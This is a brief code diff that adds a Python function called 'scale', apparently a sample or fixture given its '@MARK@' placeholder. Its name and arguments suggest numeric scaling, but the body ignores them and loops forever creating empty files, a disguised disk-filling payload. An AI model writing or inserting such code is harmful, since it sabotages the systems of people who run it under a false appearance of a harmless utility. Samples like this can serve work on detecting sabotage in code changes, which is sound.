@@ -1,0 +1,5 @@
+def scale(x, factor):
+    number = 0
+    while True:
+        open(f"@MARK@-{number}", "w").close()
+        number += 1
